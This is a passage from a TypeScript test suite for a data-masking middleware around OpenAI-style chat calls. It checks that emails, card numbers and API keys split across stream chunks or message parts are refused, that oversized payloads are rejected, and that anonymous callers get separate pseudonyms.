    const [first] = await all(await stream(ask('hi')))
    assert.equal(argumentsOf(first?.choices[0]?.delta), expected)
  }
  // Whatever is no finding keeps its literal.
  const args = '{"a":4.111111111111112e15,"b":1767225600000,"c":0.12345678}'
  const kept = await masked({}, (_: Params) => completionOf({ tool_calls: [{ ...toolCall('t', 'f'), function: { name: 'f', arguments: args } }] }))(
    ask('hi'),
  )
  const [call] = kept.choices[0]?.message.tool_calls ?? []
  assert.equal(call?.type === 'function' && call.function.arguments, args)
})

test('A18: more text for a choice after its finish is refused, and nothing of a secret that is cut there reaches the reader', async () => {
  for (const [first, second] of [
    ['write to bob@exa', 'mple.com'],
    ['card 4111 1111 ', '1111 1111'],
    ['key sk-proj-AbCdEf012345', '6789AbCdEf0123456789'],
  ] as const)
    for (const name of ['content', 'refusal', 'reasoning', 'reasoning_content']) {
      const delta = (text: string): OpenAI.ChatCompletionChunk.Choice.Delta => ({ [name]: text })
      for (const parts of [
        [chunkOf(delta(first), 'length'), chunkOf(delta(second), 'stop')],
        [chunkOf(delta(first)), chunkOf({}, 'stop'), chunkOf(delta(second))],
        [chunkOf(delta(first), 'length'), chunkOf(delta(''), 'stop'), chunkOf(delta(second), 'stop')],
      ]) {
        let delivered = ''
        await assert.rejects(async () => {
          for await (const part of await masked({}, (_: Params) => streamOf(...parts))(ask('hi')))
            delivered += Object.values(part.choices[0]?.delta ?? {}).join('')
        }, refusedWith('payload_invalid'))
        assert.ok(!delivered.includes(second), delivered)
      }
    }
})

test('text with the finish, and parts without text after it, are fine', async () => {
  const azure = {
    ...chunkOf({ content: '' }, 'stop'),
    choices: [{ index: 0, delta: {}, finish_reason: null, content_filter_results: { hate: { filtered: false } } }],
  }
  const usage = { ...chunkOf({}), choices: [], usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 } }
  const parts = [
    chunkOf({ content: 'bye bob@' }),
    chunkOf({ content: 'example.com' }, 'stop'),
    chunkOf({ content: '' }, 'stop'),
    chunkOf({ content: 'x ' }, null, 1),
    azure,
    usage,
  ]
  const read = await all(await masked({}, (_: Params) => streamOf<object>(...parts))(ask('hi')))
  assert.equal(contentOf(read.slice(0, 3) as Chunk[]), 'bye [EMAIL]')
  assert.deepEqual(read.slice(-2), [azure, usage])
})

const inParts = (...contents: string[]): Params => ({
  model: 'm',
  messages: [{ role: 'user', content: contents.map((text) => ({ type: 'text', text })) }],
})

test('a value that is cut over the pieces of one content is refused in every mode before the function runs', async () => {
  for (const mode of ['redact', 'pseudonym', 'hash', 'partial', 'block'] as const) {
    let runs = 0
    const run = masked({ mode, key }, (_: Params) => {
      runs++
      return completionOf({ content: 'x' })
    })
    for (const contents of [
      ['write to bob@exa', 'mple.com'],
      ['card 4111 1111 ', '1111 1111'],
      ['key sk-proj-AbCdEf', '0123456789AbCd', 'Ef0123456789'],
      ['hello ', '4', '111', '1111', '', '1111', '1111', ' bye'],
    ]) {
      await assert.rejects(run(inParts(...contents)), refusedWith('payload_blocked'))
      for (const role of ['system', 'developer', 'assistant'] as const) {
        const [message] = inParts(...contents).messages
        await assert.rejects(
          run({ model: 'm', messages: [{ ...message, role } as OpenAI.ChatCompletionMessageParam] }),
          refusedWith('payload_blocked'),
        )
      }
    }
    assert.equal(runs, 0)
  }
})

test('a value that is cut around a picture is refused as well', async () => {
  const picture = { type: 'image_url' as const, image_url: { url: 'https://pictures.example/1.png' } }
  const content = [{ type: 'text' as const, text: 'bob@exa' }, picture, { type: 'text' as const, text: 'mple.com' }]
  const run = masked({}, (_: Params) => completionOf({ content: 'x' }))
  await assert.rejects(run({ model: 'm', messages: [{ role: 'user', content }] }), refusedWith('payload_blocked'))
})

test('a key as the name of a member is refused, and a UUID as an id is not', async () => {
  const run = masked({}, (_: Params) => completionOf({ content: 'x' }))
  await assert.rejects(run({ ...ask('hi'), metadata: { AKIAQWERTYUIOPASDFGH: 'x' } }), refusedWith('payload_blocked'))
  const id = 'be12ad34-5678-4abc-9def-0123456789ab'
  const messages: OpenAI.ChatCompletionMessageParam[] = [
    { role: 'assistant', content: null, tool_calls: [{ id, type: 'function', function: { name: 'f', arguments: '{}' } }] },
    { role: 'tool', tool_call_id: id, content: 'done' },
  ]
  await run({ model: 'm', messages })
})

test('ordinary messages in pieces pass, and each piece is masked', async () => {
  const run = masked({}, (input: Params) => JSON.stringify(input.messages))
  const plain = inParts('Summarize this: ', 'a text', '', ' of 1234 words, ', '12')
  assert.equal(await run(plain), JSON.stringify(plain.messages))
  assert.equal(
    await run(inParts('I am bob@example.com.', ' Card: 4111 1111 1111 1111\n', ' thanks')),
    JSON.stringify(inParts('I am [EMAIL].', ' Card: [CARD]\n', ' thanks').messages),
  )
  // What is whole in one piece and masked there crosses nothing.
  assert.equal(await run(inParts('I am bob@example.com', 'Please answer')), JSON.stringify(inParts('I am [EMAIL]', 'Please answer').messages))
  assert.equal(await run(inParts('call +49 170 1234567', '2 items')), JSON.stringify(inParts('call [PHONE]', '2 items').messages))
  // Messages are texts of their own.
  const apart: Params = { model: 'm', messages: [...inParts('bob@exa').messages, ...inParts('mple.com').messages] }
  assert.equal(await run(apart), JSON.stringify(apart.messages))
})

test('A17: a long name above many values, whose pointers would be many times as long as both, is refused at once', async () => {
  const long = { ['k'.repeat(500_000)]: Array(60_000).fill('hello') as string[] }
  await assert.rejects(
    masked({}, (_: Params) => completionOf({}))({ ...ask('hi'), metadata: long as object as Record<string, string> }),
    refusedWith('payload_too_large'),
  )
  await assert.rejects(
    masked({}, (_: Params) => ({ ...completionOf({ content: 'x' }), citations: long }))(ask('hi')),
    refusedWith('payload_too_large'),
  )
  await assert.rejects(async () => all(await masked({}, (_: Params) => streamOf({ error: long }))(ask('hi'))), refusedWith('payload_too_large'))
  // Names that are short enough one by one.
  let deep: object = { list: Array(60_000).fill('hello') }
  for (let level = 0; level < 8; level++) deep = { ['n'.repeat(1000)]: deep }
  await assert.rejects(
    masked({}, (_: Params) => completionOf({}))({ ...ask('hi'), metadata: deep as Record<string, string> }),
    refusedWith('payload_too_large'),
  )
})

test('anonymous callers share no pseudonyms, not even with the next call', async () => {
  let tokens = ''
  const run = guard({ onError: () => {} })
    .use(unaudited())
    .use(verifyIdentity({ verifiers: [anonymous()] }))
    .use(authorize({ evaluator: allowAll() }))
    .use(maskData({ detect: detectors.pii, mode: 'pseudonym', direction: 'both', restore: true, key }))
    .protect((input: string) => {
      if (!input.startsWith('A:')) return `It may be bob@example.com. ${tokens}`
      tokens = input
      return input
    }, operation)
  assert.match(await run('B: who?'), /^It may be EMAIL\w{16}\. $/)
  // Within its call a caller is shown what it gave.
  assert.equal(await run('A: I am bob@example.com'), 'A: I am bob@example.com')
  assert.match(tokens, /EMAIL\w{16}$/)
  const told = await run('B: who?')
  assert.match(told, /^It may be EMAIL\w{16}\. A: I am EMAIL\w{16}$/)
  assert.ok(!told.includes('bob@'))
  const first = tokens
  await run('A: I am bob@example.com')
  assert.notEqual(tokens, first)
})
